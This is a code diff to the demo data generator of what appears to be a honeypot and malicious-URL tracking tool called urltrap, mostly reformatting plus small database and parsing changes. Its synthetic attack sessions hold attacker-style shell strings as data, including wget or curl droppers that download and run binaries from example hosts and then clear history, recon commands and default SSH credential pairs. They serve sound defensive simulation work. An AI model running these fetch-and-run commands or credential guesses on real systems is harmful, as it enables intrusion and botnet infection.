@@ -13,7 +13,7 @@ from datetime import UTC, datetime, timedelta
 from itertools import count
 from pathlib import Path
 
-from sqlalchemy import insert, update
+from sqlalchemy import delete, insert, update
 
 from urltrap.model.capture import Capture, Hop
 from urltrap.model.event import (
@@ -39,14 +39,21 @@ from urltrap.model.url import parse_url
 from urltrap.store import Store, open_store
 from urltrap.store.intake import ingest
 from urltrap.store.rows import url_key
-from urltrap.store.schema import addresses, artifacts, observations, sightings, urls, verdicts
+from urltrap.store.schema import addresses, artifacts, jobs, observations, sessions, sightings, urls, verdicts
 
-HOSTS = ("198.51.100.23", "203.0.113.77", "files.badhost.example", "cdn.update-check.example", "192.0.2.190:8088")
+HOSTS = (
+    "198.51.100.23",
+    "203.0.113.77",
+    "files.badhost.example",
+    "cdn.update-check.example",
+    "192.0.2.190:8088",
+)
 PLACES = (
     ("CN", 64500, "Example Backbone"), ("US", 64501, "Example Cloud LLC"), ("DE", 64502, "Beispiel Hosting GmbH"),
     ("VN", 64503, "Example Telecom"), ("BR", 64504, "Exemplo Telecomunicacoes"), ("RU", 64505, "Example Net JSC"),
     ("IN", 64506, "Example Broadband"), ("NL", 64507, "Voorbeeld Servers B.V."), ("KR", 64508, "Example Korea"),
-    ("FR", 64509, "Exemple SAS"), ("ID", 64510, "PT Contoh"), ("AR", 64511, "Ejemplo S.A."), ("ZA", 64496, "Example ZA"),
+    ("FR", 64509, "Exemple SAS"), ("ID", 64510, "PT Contoh"), ("AR", 64511, "Ejemplo S.A."),
+    ("ZA", 64496, "Example ZA"),
 )  # fmt: skip
 PAIRS = (
     (b"root", b"123456"), (b"root", b"admin"), (b"admin", b"admin"), (b"root", b"root"), (b"ubuntu", b"ubuntu"),
@@ -55,14 +62,15 @@ PAIRS = (
 )  # fmt: skip
 CLIENTS = (
     (b"SSH-2.0-Go", "0a07365cc01fa9fc82608ba4019af499"), (b"SSH-2.0-libssh_0.9.6", "f555226df1963d1d3c09daf865abdc9a"),
-    (b"SSH-2.0-paramiko_2.9.2", "92674389fa1e47a27ddd8d9b63ecd42b"), (b"SSH-2.0-OpenSSH_9.2p1", "ec7378c1a92f5a8dde7e8b7a1ddf33d1"),
+    (b"SSH-2.0-paramiko_2.9.2", "92674389fa1e47a27ddd8d9b63ecd42b"),
+    (b"SSH-2.0-OpenSSH_9.2p1", "ec7378c1a92f5a8dde7e8b7a1ddf33d1"),
 )  # fmt: skip
 RECON = (
     b"uname -s -v -n -r -m",
     b"cat /proc/cpuinfo | grep name | wc -l; free -m | grep Mem | awk '{print $2, $3, $4}'",
     b"lscpu | grep Model; uptime; w",
     b"cd ~; chattr -ia .ssh; lockr -ia .ssh",
-    b"echo -e \"\\x6F\\x6B\"; ls -lah $(which ls)",
+    b'echo -e "\\x6F\\x6B"; ls -lah $(which ls)',
     b"crontab -l; nproc; id",
 )
 ARCHITECTURES = ("x86-64", "mips", "arm", "mipsel", "aarch64", "powerpc")
@@ -115,8 +123,16 @@ class Demo:
         )  # fmt: skip
         if sensor == "ssh":
             version, hassh = dice.choices(CLIENTS, (6, 3, 2, 1))[0]
-            add(ClientIdentified, 0.1, version=version, hassh=hassh, hassh_algorithms="curve25519-sha256;aes128-ctr")
-        what = dice.choices(("probe", "brute", "login", "shell", "dropper", "upload", "forward"), (10, 28, 10, 14, 26, 6, 4))[0]
+            add(
+                ClientIdentified,
+                0.1,
+                version=version,
+                hassh=hassh,
+                hassh_algorithms="curve25519-sha256;aes128-ctr",
+            )
+        what = dice.choices(
+            ("probe", "brute", "login", "shell", "dropper", "upload", "forward"), (10, 28, 10, 14, 26, 6, 4)
+        )[0]
         if what != "probe":
             tries = dice.randint(2, 6) if what == "brute" else dice.randint(1, 3)
             for n in range(tries):
@@ -128,7 +144,14 @@ class Demo:
                 self.terminal(add, dice)
             for text in dice.sample(RECON, dice.randint(1, 3)):
                 add(CommandEntered, 1.2, mode="exec", text=text)
-                add(ProgramRun, 0.02, argv=text.split()[:3], path="/usr/bin/" + text.split()[0].decode(), outcome="ran", status=0)
+                add(
+                    ProgramRun,
+                    0.02,
+                    argv=text.split(b";")[0].split(b"|")[0].split(),
+                    path="/usr/bin/" + text.split()[0].decode(),
+                    outcome="ran",
+                    status=0,
+                )
         if what == "dropper":
             self.drop(id_, add, clock, sensor, source)
         if what == "upload":
@@ -137,7 +160,14 @@ class Demo:
                 sha256=digest(f"upload{dice.randrange(3)}"),
             )  # fmt: skip
         if what == "forward":
-            add(ForwardAsked, 1, direction="direct", host=b"mail.victim.example", port=25, first_bytes=b"EHLO x\r\n")
+            add(
+                ForwardAsked,
+                1,
+                direction="direct",
+                host=b"mail.victim.example",
+                port=25,
+                first_bytes=b"EHLO x\r\n",
+            )
         seconds = (clock[0] - at).total_seconds() + 0.7
         add(
             Disconnected, 0.7, reason=dice.choice(("client", "client", "client", "timeout")),
@@ -154,10 +184,16 @@ class Demo:
         def show(data: bytes) -> None:
             frames.append((at, "o", data))
 
-        show(b"Linux db-replica2 6.1.0-28-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.119-1 x86_64\r\n\r\n" + prompt)
+        show(
+            b"Linux db-replica2 6.1.0-28-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.119-1 x86_64\r\n\r\n"
+            + prompt
+        )
         for command, output in (
             (b"uname -a", b"Linux db-replica2 6.1.0-28-amd64 #1 SMP x86_64 GNU/Linux\r\n"),
-            (b"cd /tmp; wget http://198.51.100.23/bins/x86 -O .x", b"2026-11-24 04:00:01 (1.2 MB/s) - '.x' saved\r\n"),
+            (
+                b"cd /tmp; wget http://198.51.100.23/bins/x86 -O .x",
+                b"2026-11-24 04:00:01 (1.2 MB/s) - '.x' saved\r\n",
+            ),
             (b"chmod +x .x; ./.x", b""),
         ):
             for char in command:
@@ -174,10 +210,20 @@ class Demo:
         name = dice.choice(ARCHITECTURES) if dice.random() < 0.7 else dice.choice(("bins.sh", "x.sh"))
         url = f"http://{host}/bins/{name}"
         if dice.random() < 0.08:
-            url = dice.choice(("https://ip-check.example/json", "http://192.168.1.9/a.sh", "http://files.badhost.example/logo.png"))
+            url = dice.choice(
+                (
+                    "https://ip-check.example/json",
+                    "http://192.168.1.9/a.sh",
+                    "http://files.badhost.example/logo.png",
+                )
+            )
         raw = url.encode()
         if dice.random() < 0.5:
-            text = b"cd /tmp || cd /var/run || cd /mnt; wget -q " + raw + b" -O .x && chmod +x .x && ./.x; rm -rf .x; history -c"
+            text = (
+                b"cd /tmp || cd /var/run || cd /mnt; wget -q "
+                + raw
+                + b" -O .x && chmod +x .x && ./.x; rm -rf .x; history -c"
+            )
         else:
             text = b"(curl -fsSL " + raw + b" || wget -qO- " + raw + b") | sh"
         seq = add(CommandEntered, 2, mode="exec", text=text)
@@ -202,7 +248,11 @@ class Demo:
             fetched = not url.startswith(("http://192.168", "http://192.0.2"))
             redirected = key.host == "cdn.update-check.example"
             hops = [Hop(url=url, address="203.0.113.201", status=302, location=b"/v2")] if redirected else []
-            hops += [Hop(url=url + ("/v2" if redirected else ""), address="198.51.100.23", status=200)] if fetched else []
+            hops += (
+                [Hop(url=url + ("/v2" if redirected else ""), address="198.51.100.23", status=200)]
+                if fetched
+                else []
+            )
             yield Captured(
                 session=f"fetcher-{n:06d}", seq=0, at=seen + timedelta(seconds=1),
                 capture=Capture(
@@ -219,7 +269,13 @@ class Demo:
         for n in range(3):
             at = self.now - timedelta(hours=5 * n + 1)
             yield FloodCounted(
-                session=f"flood-{n}", seq=0, at=at, sensor="ssh", src_ip="203.0.113.250", since=at, count=1200 + n
+                session=f"flood-{n}",
+                seq=0,
+                at=at,
+                sensor="ssh",
+                src_ip="203.0.113.250",
+                since=at,
+                count=1200 + n,
             )
 
     def derive(self) -> None:
@@ -234,6 +290,11 @@ class Demo:
                 )
             for url, seen in self.seen.items():
                 self._url(connection, url, seen)
+                for id_, *_ in seen:
+                    connection.execute(
+                        update(sessions).where(sessions.c.id == id_).values(urls=sessions.c.urls + 1)
+                    )
+            connection.execute(delete(jobs))
             for n in range(3):
                 connection.execute(
                     update(artifacts).where(artifacts.c.sha256 == digest(f"upload{n}")).values(
@@ -252,7 +313,15 @@ class Demo:
         fetched = url in self.captured and not url.startswith(("http://192.168", "http://192.0.2"))
         held = url.startswith("http://192.168")
         name = url.rsplit("/", 1)[1]
-        kind = "script" if name.endswith(".sh") else "html" if name == "json" else "image" if "png" in name else "elf"
+        kind = (
+            "script"
+            if name.endswith(".sh")
+            else "html"
+            if name == "json"
+            else "image"
+            if "png" in name
+            else "elf"
+        )
         benign = "ip-check" in url
         listed = fetched and parsed.host == "198.51.100.23"
         if benign:
@@ -266,7 +335,9 @@ class Demo:
         else:
             verdict, confidence = "suspicious", 38
         malicious = verdict.startswith("malicious")
-        publish_after = last if malicious and sources > 1 else self.now + timedelta(hours=3) if malicious else None
+        publish_after = (
+            last if malicious and sources > 1 else self.now + timedelta(hours=3) if malicious else None
+        )
         flags = ["private"] if held else []
         connection.execute(
             insert(urls).values(
@@ -289,7 +360,9 @@ class Demo:
             )  # fmt: skip
         reasons = [("listed.url", "urlhaus lists this URL (elf, mirai)", 90)] if listed else []
         if kind in ("elf", "script") and fetched:
-            reasons.append((f"payload.{kind}", f"it serves {'a script' if kind == 'script' else 'an ELF program'}", 45))
+            reasons.append(
+                (f"payload.{kind}", f"it serves {'a script' if kind == 'script' else 'an ELF program'}", 45)
+            )
             reasons.append(("run", "what came was run or made executable there", 25))
         if sources > 1:
             reasons.append(("sources", f"{sources} addresses came with it", 12))
